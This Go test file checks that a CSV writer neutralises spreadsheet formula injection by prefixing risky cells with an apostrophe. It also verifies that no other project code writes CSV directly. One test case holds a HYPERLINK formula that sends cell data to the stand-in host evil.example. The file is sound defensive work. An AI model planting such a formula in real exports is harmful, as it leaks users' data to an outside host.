package csvout

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCells: text a spreadsheet would run is written behind one apostrophe,
// numbers as they are; Restore gives every text back.
func TestCells(t *testing.T) {
	for _, tc := range []struct {
		cell Cell
		want string
	}{
		{Text("=1+1"), "'=1+1"},
		{Text(`=HYPERLINK("http://evil.example/?"&A1,"x")`), `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{Text("+84 258"), "'+84 258"},
		{Text("-2+3"), "'-2+3"},
		{Text("-5"), "'-5"}, // text that looks like a number is text
		{Text("@SUM(1+1)"), "'@SUM(1+1)"},
		{Text("\t=1"), "'\t=1"},
		{Text("\r=1"), "'\r=1"},
		{Text("'=1"), "''=1"}, // one more, so that Restore gives it back
		{Text("''@x"), "'''@x"},
		{Text("'quoted"), "'quoted"},
		{Text("Sở Tư pháp"), "Sở Tư pháp"},
		{Text(" =1"), " =1"},
		{Text(""), ""},
		{Number("-5"), "-5"},
		{Number("-0.25"), "-0.25"},
		{Number("-1e-7"), "-1e-7"},
		{Number("12"), "12"},
		{Number(""), ""},
		{Number(`{"a":"=1"}`), `{"a":"=1"}`},
		{Number("true"), "true"},
		{Number("-Inf"), "'-Inf"}, // not a number as JSON writes them
		{Number("-2+3"), "'-2+3"},
		{Number("+5"), "'+5"},
	} {
		var buf bytes.Buffer
		w := NewWriter(&buf)
		if err := w.Write([]Cell{tc.cell, Text("x")}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) != 1 || rows[0][0] != tc.want {
			t.Errorf("%+v written as %q (%v), want %q", tc.cell, rows, err, tc.want)
			continue
		}
		if got := Restore(rows[0][0]); !tc.cell.number && got != tc.cell.s {
			t.Errorf("Restore(%q) = %q, want %q", rows[0][0], got, tc.cell.s)
		}
	}
}

// TestOnlyWriter: no other code writes CSV with encoding/csv itself, so
// every CSV the project writes is neutralised here.
func TestOnlyWriter(t *testing.T) {
	err := filepath.WalkDir("../..", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case d.IsDir() && (d.Name() == "node_modules" || strings.HasPrefix(d.Name(), ".") && path != "../.."):
			return filepath.SkipDir
		case d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.Base(filepath.Dir(path)) == "csvout":
			return nil
		}
		src, err := os.ReadFile(path)
		if err == nil && bytes.Contains(src, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes CSV with encoding/csv: use csvout.NewWriter", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}
